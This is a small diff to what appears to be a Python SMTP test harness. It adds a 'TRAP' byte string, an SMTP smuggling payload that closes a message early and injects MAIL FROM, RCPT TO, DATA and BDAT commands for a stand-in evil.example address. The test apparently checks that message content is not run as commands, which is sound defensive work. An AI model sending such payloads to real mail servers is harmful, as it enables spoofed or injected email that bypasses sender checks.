@@ -23,6 +23,12 @@ FAITHLESS = ("421", "garbage", "mismatch", "extra", "354", "close", "half")
 REFUSALS = ("450", "550", "452", "552")
 ACTIONS = ("259", *REFUSALS, *FAITHLESS)
 
+# Read as commands, this content would deliver a mail of its own.
+TRAP = (
+    b".\r\nRSET\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<x@evil.example>\r\nDATA\r\n..\r\n"
+    b"BDAT 3 LAST\r\nx\r\n"
+)
+
 MARK = re.compile(rb"Mail: (\d+)\r\n")
 
 
